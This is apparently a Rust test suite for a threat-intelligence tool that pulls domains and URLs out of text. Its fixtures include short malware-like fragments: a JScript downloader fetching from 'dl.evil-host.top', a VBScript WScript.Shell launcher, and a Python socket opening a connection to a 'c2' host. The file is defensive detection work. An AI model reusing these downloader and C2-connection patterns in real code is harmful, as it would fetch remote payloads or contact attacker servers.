//! Scripts: what a program calls and sets looks like a name, and only what it writes in quotes is one.

use vtriage::ioc::{ExtractOptions, extract};

use crate::cases::only;

#[test]
fn a_name_that_is_called_is_code() {
    for text in [
        "x.open(\"GET\", u, false)",
        "xhr.open('GET', u)",
        "s.read(1024)",
        "a.map(f)",
        "fs.watch(path, cb)",
        "stream.now()",
        "d.click();",
        "ws.run(\"calc\")",
        "q.call(this)",
        "c.fit(x)",
        "n.one(e)",
        "if r.is(x)",
        "y(\"GET\", \"evil-host\") and s.read(10)",
    ] {
        only(text, &[]);
        let items = extract(text, &ExtractOptions::default()).items;
        assert!(items.iter().all(|item| item.reason.is_some()), "{text}: {items:?}");
    }
}

#[test]
fn a_name_with_its_address_in_brackets_or_defanged_is_meant() {
    only("evil-host.top(46.17.98.12)", &["46.17.98.12", "evil-host.top"]);
    only("evil-host.top (a loader)", &["evil-host.top"]);
    only("evil-host[.]top(C2)", &["evil-host.top"]);
    only("domain: evil-host.top(C2)", &["evil-host.top"]);
}

#[test]
fn of_a_script_only_what_is_quoted_and_urls_are_meant() {
    only(
        "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\nx.open(\"GET\", \"http://dl.evil-host.top/a\", false);\nx.send();\n\
         el.style.top = \"0\";\nr = conn.io;\ns += a.one;\nvar h = \"c2.evil-host.top\", k = 'd2.evil-host.top';\n",
        &["c2.evil-host.top", "d2.evil-host.top", "http://dl.evil-host.top/a"],
    );
    only(
        "Dim a\nSet a = CreateObject(\"WScript.Shell\")\na.run = b.top\nhost = \"c2.evil-host.top\"\na.run host\n",
        &["c2.evil-host.top"],
    );
    only(
        "#!/usr/bin/env python3\nimport socket\ns = socket.socket()\ns.connect((\"c2.evil-host.top\", 443))\nd = conn.io\n",
        &["c2.evil-host.top"],
    );
    only(
        "<html><script>\nd.style.top = '1'; x = \"http://dl.evil-host.top/a\"; y = conn.io;\n</script></html>",
        &["http://dl.evil-host.top/a"],
    );
}

#[test]
fn settings_and_sentences_are_no_scripts() {
    only("server {\n  server_name evil-host.top;\n  return 301;\n}\n", &["evil-host.top"]);
    only(
        "zone \"evil-host.top\" { type master; };\nmasters { evil-peer.top; };\n",
        &["evil-host.top", "evil-peer.top"],
    );
    only(
        "It asks evil-host.top; then evil-peer.top.\nNote (new): evil-third.top\n",
        &["evil-host.top", "evil-peer.top", "evil-third.top"],
    );
}
